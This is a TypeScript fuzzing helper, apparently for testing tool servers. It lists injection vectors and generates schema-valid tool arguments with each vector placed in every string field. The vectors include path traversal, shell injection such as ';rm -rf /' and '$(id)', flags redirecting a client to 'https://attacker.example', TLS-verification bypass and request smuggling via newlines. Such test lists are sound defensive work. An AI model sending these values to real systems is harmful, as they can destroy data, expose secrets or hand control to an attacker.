import type { Json, JsonObject, ToolDescription } from '@skyflo/contracts';

/** What has broken other tool servers, and what a URL, a flag, a shell or a selector would make something of. */
export const vectors: readonly string[] = [
  '../',
  '../../nodes',
  '%2e%2e/',
  '..%2f..%2fsecrets',
  'a/b',
  'kube-system/pods/x',
  ';rm -rf /',
  '|id',
  '$(id)',
  '`id`',
  '--server=https://attacker.example',
  '-Ashttps://attacker.example',
  '--insecure_skip_tls_verify=true',
  '--all-namespaces',
  'web\u0000',
  'web\nGET /api/v1/secrets HTTP/1.1',
  'w\u00e9b',
  'web\u202e',
  '?watch=true',
  'web?watch=true',
  'web#x',
  'web&limit=9',
  'web,metadata.namespace=kube-system',
  ' ',
  '',
  'x'.repeat(10_000),
];

type Schema = {
  readonly type?: string;
  readonly enum?: readonly Json[];
  readonly default?: Json;
  readonly minimum?: number;
  readonly minItems?: number;
  readonly properties?: { readonly [name: string]: Schema };
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly additionalProperties?: Schema | boolean;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
};
/** Where a string can stand in the arguments of a tool, and how it is put there. */
export type Place = { readonly field: string; readonly put: (text: string) => JsonObject };
export type Known = { readonly [field: string]: Json };

/** Arguments as somebody would give them who means it: what is required, and whatever says what it is about. */
export function aCallOf({ inputSchema }: ToolDescription, known: Known): JsonObject {
  return objectOf(inputSchema as Schema, known) as JsonObject;
}

/** Every place of every string: of lists, of objects within and of their keys too. */
export function placesOf(tool: ToolDescription, known: Known): Place[] {
  const base = aCallOf(tool, known);
  return Object.entries((tool.inputSchema as Schema).properties ?? {}).flatMap(([field, schema]) =>
    within(schema, known).map((put) => ({ field, put: (text) => ({ ...base, [field]: put(text) }) })),
  );
}

function within(schema: Schema, known: Known): ((text: string) => Json)[] {
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return choices.flatMap((choice) => within(choice, known));
  if (schema.type === 'string') return [(text) => text];
  if (schema.type === 'array' && schema.items) return within(schema.items, known).map((put) => (text) => [put(text)]);
  if (schema.type !== 'object') return [];
  const own = Object.entries(schema.properties ?? {}).flatMap(([name, member]) =>
    within(member, known).map((put) => (text: string) => ({
      ...(objectOf(schema, known) as JsonObject),
      [name]: put(text),
    })),
  );
  const free = typeof schema.additionalProperties === 'object' ? schema.additionalProperties : undefined;
  if (!free) return own;
  const values = within(free, known).map((put) => (text: string) => ({ team: put(text) }));
  return [...own, ...values, (text) => ({ [text]: valueOf('team', free, known) })];
}

function objectOf({ properties = {}, required = [] }: Schema, known: Known): Json {
  const given = Object.entries(properties).filter(([name]) => required.includes(name) || name in known);
  return Object.fromEntries(given.map(([name, schema]) => [name, valueOf(name, schema, known)]));
}

function valueOf(name: string, schema: Schema, known: Known): Json {
  const choice = schema.anyOf?.[0] ?? schema.oneOf?.[0];
  if (choice) return valueOf(name, choice, known);
  const meant = known[name];
  if (schema.enum) return meant !== undefined && schema.enum.includes(meant) ? meant : (schema.enum[0] ?? null);
  if (meant !== undefined) return meant;
  if (schema.type === 'integer' || schema.type === 'number') return Math.max(schema.minimum ?? 1, 0);
  if (schema.type === 'boolean') return false;
  if (schema.type === 'array') return schema.items ? [valueOf(name, schema.items, known)] : [];
  if (schema.type === 'object') {
    const free = typeof schema.additionalProperties === 'object' ? schema.additionalProperties : undefined;
    return free ? { team: valueOf('team', free, known) } : objectOf(schema, known);
  }
  return 'web';
}
